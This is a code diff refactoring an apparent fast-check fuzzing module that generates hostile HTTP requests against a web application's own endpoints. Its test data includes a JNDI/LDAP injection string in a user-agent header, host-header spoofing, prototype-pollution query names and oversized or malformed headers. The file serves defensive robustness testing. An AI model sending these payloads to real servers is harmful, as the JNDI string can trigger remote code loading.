@@ -41,6 +41,10 @@ export function hostileRequests(
   );
 }
 
+/** `other` once in `times` + 1 values. */
+const rarely = <T>(times: number, usual: fc.Arbitrary<T>, other: fc.Arbitrary<T>) =>
+  fc.oneof({ weight: times, arbitrary: usual }, { weight: 1, arbitrary: other });
+
 /** Percent-encoded as in a browser, or not at all. */
 const inAddress = (text: fc.Arbitrary<string>): fc.Arbitrary<string> =>
   fc.tuple(text, fc.integer({ min: 0, max: 4 })).map(([value, how]) => {
@@ -51,36 +55,34 @@ const inAddress = (text: fc.Arbitrary<string>): fc.Arbitrary<string> =>
 const inText = (value: unknown): string =>
   encodeURIComponent(typeof value === 'string' ? value : (JSON.stringify(value) ?? '1'));
 
-const headers: fc.Arbitrary<[string, string][]> = fc.oneof(
-  { weight: 8, arbitrary: fc.constant<[string, string][]>([]) },
-  {
-    weight: 1,
-    arbitrary: fc.constantFrom<[string, string][]>(
-      [['accept-encoding', 'br;q=NaN, gzip;q=1e309, *;q=']],
-      [['if-none-match', '"' + 'x'.repeat(3000)]],
-      [['range', 'bytes=0-,-1,99999999999999999999-']],
-      [['accept', 'application/json' + ';q='.repeat(1000)]],
-      [['cookie', 'x'.repeat(12_000)]],
-      [['cookie', 'x'.repeat(80_000)]],
-      [['host', 'otro.example']],
-      [['host', '']],
-      [['x-forwarded-host', 'otro.example']],
-      [['x-forwarded-proto', 'javascript']],
-      [['content-type', 'multipart/form-data']],
-      [['content-type', 'multipart/form-data; boundary=x']],
-      [['content-type', 'application/x-www-form-urlencoded']],
-      [['content-type', 'text/html']],
-      [['content-type', 'application/json; charset=utf-7']],
-      [['content-encoding', 'gzip']],
-      [['sec-fetch-site', 'cross-site']],
-      [['referer', planted.markup]],
-      [['user-agent', '${jndi:ldap://otro.example}']],
-      [['x-payments-signature', 't=NaN,v1=zz']],
-      [['x-signature', 'ts=1,v1=zz']],
-      [['expect', '100-continue']],
-      Array.from({ length: 150 }, (_, index): [string, string] => [`x-${index}`, 'x'.repeat(40)]),
-    ),
-  },
+const headers: fc.Arbitrary<[string, string][]> = rarely(
+  8,
+  fc.constant<[string, string][]>([]),
+  fc.constantFrom<[string, string][]>(
+    [['accept-encoding', 'br;q=NaN, gzip;q=1e309, *;q=']],
+    [['if-none-match', '"' + 'x'.repeat(3000)]],
+    [['range', 'bytes=0-,-1,99999999999999999999-']],
+    [['accept', 'application/json' + ';q='.repeat(1000)]],
+    [['cookie', 'x'.repeat(12_000)]],
+    [['cookie', 'x'.repeat(80_000)]],
+    [['host', 'otro.example']],
+    [['host', '']],
+    [['x-forwarded-host', 'otro.example']],
+    [['x-forwarded-proto', 'javascript']],
+    [['content-type', 'multipart/form-data']],
+    [['content-type', 'multipart/form-data; boundary=x']],
+    [['content-type', 'application/x-www-form-urlencoded']],
+    [['content-type', 'text/html']],
+    [['content-type', 'application/json; charset=utf-7']],
+    [['content-encoding', 'gzip']],
+    [['sec-fetch-site', 'cross-site']],
+    [['referer', planted.markup]],
+    [['user-agent', '${jndi:ldap://otro.example}']],
+    [['x-payments-signature', 't=NaN,v1=zz']],
+    [['x-signature', 'ts=1,v1=zz']],
+    [['expect', '100-continue']],
+    Array.from({ length: 150 }, (_, index): [string, string] => [`x-${index}`, 'x'.repeat(40)]),
+  ),
 );
 
 function queryOf(
@@ -95,18 +97,9 @@ function queryOf(
       { weight: 1, arbitrary: fc.constantFrom('', `${name}[]=1`, `${name}=1&${name}=2`) },
     ),
   );
-  const strange = fc.oneof(
-    { weight: 6, arbitrary: fc.constant('') },
-    {
-      weight: 1,
-      arbitrary: fc
-        .tuple(
-          fc.constantFrom('fbclid', '__proto__', 'constructor', 'toString'),
-          inAddress(hostileText),
-        )
-        .map(([name, value]) => `${name}=${value}`),
-    },
-  );
+  const strangeName = fc.constantFrom('fbclid', '__proto__', 'constructor', 'toString');
+  const pair = fc.tuple(strangeName, inAddress(hostileText)).map((both) => both.join('='));
+  const strange = rarely(6, fc.constant(''), pair);
   return fc.tuple(fc.tuple(...parts), strange).map(([values, more]) => {
     const query = [...values, more].filter(Boolean).join('&');
     return query ? `?${query}` : '';
@@ -149,14 +142,10 @@ function callOf(
   right: ReadonlyMap<string, unknown>,
 ): fc.Arbitrary<HostileRequest> {
   const base = fc.constantFrom(...pathsOf(endpoint));
-  const item = fc.oneof(
-    { weight: 5, arbitrary: fc.constant('') },
-    { weight: 1, arbitrary: inAddress(hostileText).map((text) => `/${text}`) },
-  );
-  const method = fc.oneof(
-    { weight: 20, arbitrary: fc.constant(endpoint.method as string) },
-    { weight: 1, arbitrary: fc.constantFrom('GET', 'POST', 'PUT', 'DELETE', 'HEAD', 'OPTIONS') },
-  );
+  const segment = inAddress(hostileText).map((text) => `/${text}`);
+  const item = rarely(5, fc.constant(''), segment);
+  const verbs = fc.constantFrom('GET', 'POST', 'PUT', 'DELETE', 'HEAD', 'OPTIONS');
+  const method = rarely(20, fc.constant<string>(endpoint.method), verbs);
   const body = endpoint.isMultipart
     ? multipart
     : endpoint.body
@@ -171,7 +160,7 @@ function callOf(
       path: `${path}${id}${query}`,
       headers: [...(text === undefined ? [] : [contentType(endpoint)]), ...more],
       isRaw: false,
-      ...(text === undefined || verb === 'GET' || verb === 'HEAD' ? {} : { body: text }),
+      ...(text !== undefined && verb !== 'GET' && verb !== 'HEAD' && { body: text }),
     }));
 }
 
@@ -200,6 +189,8 @@ const multipart: fc.Arbitrary<string> = fc
     return `${parts.join('')}${file}${end}`;
   });
 
+const urlEncoded: [string, string] = ['content-type', 'application/x-www-form-urlencoded'];
+
 function pageOf(
   pattern: string,
   right: ReadonlyMap<string, unknown>,
@@ -221,20 +212,15 @@ function pageOf(
       fc.tuple(...segments),
       fc.oneof(fc.constant(''), queryOf(searched, right)),
       headers,
-      fc.oneof({ weight: 5, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary: form }),
+      rarely<string | undefined>(5, fc.constant(undefined), form),
     )
     .map(([parts, query, more, body]) => ({
       about: pattern,
       method: body === undefined ? 'GET' : 'POST',
       path: `${parts.join('/') || '/'}${query}`,
-      headers: [
-        ...(body === undefined
-          ? []
-          : [['content-type', 'application/x-www-form-urlencoded'] as [string, string]]),
-        ...more,
-      ],
+      headers: body === undefined ? more : [urlEncoded, ...more],
       isRaw: false,
-      ...(body === undefined ? {} : { body }),
+      ...(body !== undefined && { body }),
     }));
 }
 
@@ -306,5 +292,5 @@ const stray: fc.Arbitrary<HostileRequest> = fc
     path,
     headers: more,
     isRaw: true,
-    ...(body === undefined ? {} : { body }),
+    ...(body !== undefined && { body }),
   }));
